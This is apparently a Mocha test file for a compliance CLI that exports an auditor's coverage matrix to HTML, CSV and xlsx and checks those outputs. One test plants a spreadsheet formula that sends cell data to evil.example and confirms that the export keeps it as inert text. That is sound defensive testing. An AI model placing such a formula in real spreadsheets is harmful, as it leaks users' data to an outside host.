// The auditor's matrix as the CLI writes it, read back the way its readers read it: HTML with a DOM
// parser, xlsx with the workbook library, CSV with a CSV parser.

import assert from 'node:assert/strict';
import * as path from 'node:path';
import ExcelJS from 'exceljs';
import { parseHTML } from 'linkedom';
import { ensureBuilt, HARBORVIEW, HARBORVIEW_COVERAGE_STDERR, lines, removeTemps, repoOf, Runs, runCli, tempDir, TODAY } from './cli';
import { parseCsv } from './coverage.test';

const TYPE2 = {
  'compliance-docs.yml': lines('categories: [security]', 'audit:', '  type: type2', '  period: { start: 2026-01-01, end: 2026-12-31 }'),
  'controls/cm-01.md': lines(
    '---',
    'id: CM-01',
    'title: Change approval',
    'owner: eng-lead',
    'criteria: [CC8.1]',
    'frequency: monthly',
    'last_reviewed: 2026-05-01',
    'evidence:',
    '  - path: ../evidence/cm/jan.csv',
    '    date: 2026-01-20',
    '  - ../evidence/2026-03/changes.csv',
    '---',
  ),
  'evidence/cm/jan.csv': 'x',
  'evidence/2026-03/changes.csv': 'x',
  'policies/change.md': lines('---', 'id: POL-CHANGE', 'title: Change policy', 'criteria: [CC8.1]', 'last_reviewed: 2026-02-01', '---'),
  'policies/draft.md': lines('---', 'id: POL-DRAFT', 'status: draft', 'criteria: [CC7.1]', '---'),
};

/** What the tests read of a parsed page (the project compiles without the DOM library's types). */
interface Element {
  getAttribute(name: string): string | null;
  readonly textContent: string | null;
  readonly classList: { contains(name: string): boolean };
  querySelector(selector: string): Element | null;
  querySelectorAll(selector: string): ArrayLike<Element> & Iterable<Element>;
}

function parsePage(html: string): Element {
  return (parseHTML(html) as unknown as { document: Element }).document;
}

interface MatrixJson {
  criteria: Array<{ id: string; state: string }>;
  calendar: Array<{ id: string; slots: Array<{ label: string; status: string }> }>;
  notCounted: Array<{ path: string; reason: string }>;
  legend: Array<{ state: string; label: string }>;
}

describe('compliance-docs coverage: the auditor matrix', function () {
  this.timeout(60000);
  let repo = '';
  let xlsxFile = '';
  const runs = new Runs();
  for (const format of ['json', 'csv', 'md', 'html']) runs.add(format, () => ['coverage', repo, '--format', format, '--today', '2026-07-15', '--no-cache']);
  runs.add('harborview-html', ['coverage', HARBORVIEW, '--format', 'html', '--today', TODAY]);
  runs.add('harborview-json', ['coverage', HARBORVIEW, '--format', 'json', '--today', TODAY]);
  runs.add('xlsx', () => ['coverage', repo, '--format', 'xlsx', '--today', '2026-07-15', '--no-cache', '--output', xlsxFile]);
  before(() => {
    ensureBuilt();
    repo = repoOf(TYPE2);
    xlsxFile = path.join(tempDir(), 'matrix.xlsx');
    runs.start();
  });
  after(removeTemps);

  async function model(name = 'json'): Promise<MatrixJson> {
    const r = await runs.get(name);
    // The example's config has a deliberate error, so its coverage exits 2 after printing the report.
    if (name.startsWith('harborview')) assert.deepEqual([r.code, r.stderr], [2, HARBORVIEW_COVERAGE_STDERR]);
    else assert.equal(r.code, 0, r.stderr);
    return JSON.parse(r.stdout) as MatrixJson;
  }

  it('json: the calendar of a monthly control, month by month up to today', async () => {
    const m = await model();
    assert.deepEqual(
      m.calendar.map((c) => [c.id, c.slots.map((s) => `${s.label}:${s.status}`).join(' ')]),
      [['CM-01', '2026-01:filled 2026-02:missing 2026-03:filled 2026-04:missing 2026-05:missing 2026-06:missing 2026-07:not yet due 2026-08:not yet due 2026-09:not yet due 2026-10:not yet due 2026-11:not yet due 2026-12:not yet due']],
    );
    assert.deepEqual(m.notCounted.map((d) => d.path), ['policies/draft.md']);
  });

  it('html: self-contained, with the calendar drawn as filled and empty cells, a legend of every state, and print rules', async () => {
    const html = (await runs.get('html')).stdout;
    const document = parsePage(html);
    assert.equal(document.querySelectorAll('script, link, img, iframe, object, embed').length, 0, 'no script or external resource');
    for (const el of document.querySelectorAll('[src], [href]')) assert.doesNotMatch(el.getAttribute('src') ?? el.getAttribute('href') ?? '', /^(?:[a-z]+:|\/\/)/i);
    const css = [...document.querySelectorAll('style')].map((s) => s.textContent ?? '').join('\n');
    assert.doesNotMatch(css, /@import|url\(/i);
    assert.match(css, /@page\s*\{/);
    assert.match(css, /@media print\s*\{/);

    const slots = [...document.querySelectorAll('table.calendar tr[data-control="CM-01"] td.slot')];
    assert.deepEqual(
      slots.map((td) => `${td.querySelector('.lbl')?.textContent}:${td.getAttribute('data-status')}`),
      ['2026-01:filled', '2026-02:missing', '2026-03:filled', '2026-04:missing', '2026-05:missing', '2026-06:missing', ...['07', '08', '09', '10', '11', '12'].map((m) => `2026-${m}:not yet due`)],
    );
    assert.ok(slots[0].classList.contains('filled') && slots[1].classList.contains('missing') && slots[6].classList.contains('open'));

    const legend = [...document.querySelectorAll('ul.legend li')].map((li) => li.getAttribute('data-state'));
    assert.deepEqual(legend, (await model()).legend.map((l) => l.state));

    const cc81 = [...document.querySelectorAll('table.matrix tr[data-criterion="CC8.1"]')];
    assert.deepEqual(
      cc81.map((tr) => tr.getAttribute('data-document')),
      ['CM-01', 'POL-CHANGE'],
    );
    assert.equal(cc81[0].querySelector('a')?.getAttribute('href'), 'controls/cm-01.md');
    const evidence = [...cc81[0].querySelectorAll('ul.ev li')].map((li) => li.textContent ?? '');
    assert.match(evidence[0], /^evidence\/cm\/jan\.csv2026-01-20 \(recorded\) · exists: yes · slot: 2026-01$/);
    assert.match(evidence[1], /^evidence\/2026-03\/changes\.csv2026-03-31 \(inferred from the path\) · exists: yes · slot: 2026-03$/);
    assert.equal(document.querySelector('section.not-counted td:last-child')?.textContent, 'it is a draft: what it maps (CC7.1) counts once it is approved');
  });

  it('html: every criterion of the example repository has its state chip, as in json', async () => {
    const document = parsePage((await runs.get('harborview-html')).stdout);
    const m = await model('harborview-json');
    for (const c of m.criteria) {
      const head = document.querySelector(`table.matrix tr[data-criterion="${c.id}"] th.crit`);
      assert.ok(head, c.id);
      assert.equal(head.querySelector('.chip')?.getAttribute('data-state'), c.state, c.id);
    }
  });

  it('xlsx: one sheet per table, read back with the same rows as the CSV', async () => {
    const r = await runs.get('xlsx');
    assert.equal(r.code, 0, r.stderr);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsxFile);
    assert.deepEqual(
      book.worksheets.map((w) => w.name),
      ['Matrix', 'Period calendar', 'Not counted', 'Legend'],
    );
    const values = (sheet: ExcelJS.Worksheet): string[][] => {
      const out: string[][] = [];
      sheet.eachRow({ includeEmpty: true }, (row) => {
        const cells: string[] = [];
        for (let i = 1; i <= sheet.columnCount; i++) cells.push(String(row.getCell(i).value ?? ''));
        out.push(cells);
      });
      return out;
    };
    const csv = parseCsv((await runs.get('csv')).stdout);
    assert.deepEqual(values(book.getWorksheet('Matrix') as ExcelJS.Worksheet), csv);
    const calendar = values(book.getWorksheet('Period calendar') as ExcelJS.Worksheet);
    assert.deepEqual(calendar[0], ['Control', 'Control title', 'Frequency', 'Slot', 'Slot start', 'Slot end', 'Slot status', 'Evidence in the slot']);
    assert.deepEqual(calendar[2], ['CM-01', 'Change approval', 'monthly', '2026-02', '2026-02-01', '2026-02-28', 'missing', '']);
  });

  it('xlsx: repository text that looks like a formula is a string cell, never a formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    const root = repoOf({
      'compliance-docs.yml': lines('categories: [security]'),
      'controls/x.md': lines('---', `id: ${JSON.stringify(formula)}`, 'type: control', `title: ${JSON.stringify(`@SUM(A1:A9) \u0007bell`)}`, 'criteria: [CC6.1]', '---'),
    });
    const file = path.join(tempDir(), 'hostile.xlsx');
    const r = await runCli(['coverage', root, '--format', 'xlsx', '--no-cache', '--today', TODAY, '--output', file]);
    assert.equal(r.code, 0, r.stderr);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const row = (book.getWorksheet('Matrix') as ExcelJS.Worksheet).getRows(2, 200)?.find((x) => x.getCell(1).value === 'CC6.1');
    assert.ok(row);
    assert.equal(row.getCell(5).type, ExcelJS.ValueType.String);
    assert.equal(row.getCell(5).value, formula);
    assert.equal(row.getCell(6).value, '@SUM(A1:A9) bell', 'kept as text, without the control character');
  });

  it('xlsx: written to standard output when it is a pipe', async () => {
    const r = await runCli(['coverage', HARBORVIEW, '--format', 'xlsx', '--today', TODAY]);
    assert.deepEqual([r.code, r.stderr], [2, HARBORVIEW_COVERAGE_STDERR], 'the example config has a deliberate error');
    assert.equal(r.stdout.slice(0, 2), 'PK', 'a zip archive on standard output');
  });
});
